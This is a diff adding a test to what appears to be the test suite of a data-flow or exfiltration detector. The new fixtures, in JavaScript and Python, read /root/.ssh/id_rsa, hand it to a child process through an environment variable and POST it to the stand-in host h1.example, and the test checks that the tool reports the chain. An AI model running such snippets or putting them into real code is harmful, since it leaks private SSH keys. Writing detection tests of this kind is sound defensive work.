@@ -218,6 +218,24 @@ describe("what a program is given, and how it is handed on", () => {
     ]);
   });
 
+  test("a variable that the program has put into its own environment", async () => {
+    const found = await chains({
+      "a.mjs": `${IMPORTS}process.env.NOTE = ${KEY};\nspawn("node", ["b.mjs"]);`,
+      "b.mjs": 'fetch("https://h1.example/x", { method: "POST", body: process.env.NOTE });',
+    });
+    expect(found).toEqual([
+      ["a.mjs:3 reads /root/.ssh/id_rsa", "a.mjs:4 passes it as $NOTE", `b.mjs:1 ${SENDS("h1.example")}`],
+    ]);
+    const python = await chains({
+      "a.py":
+        'import os, subprocess\nos.environ["NOTE"] = open("/root/.ssh/id_rsa").read()\nsubprocess.run("python b.py", shell=True)',
+      "b.py": 'import os, requests\nrequests.post("https://h1.example/x", data=os.environ["NOTE"])',
+    });
+    expect(python).toEqual([
+      ["a.py:2 reads /root/.ssh/id_rsa", "a.py:3 passes it as $NOTE", `b.py:2 ${SENDS("h1.example")}`],
+    ]);
+  });
+
   test("a variable that is set for a program of Python", async () => {
     const found = await chains({
       "a.py":
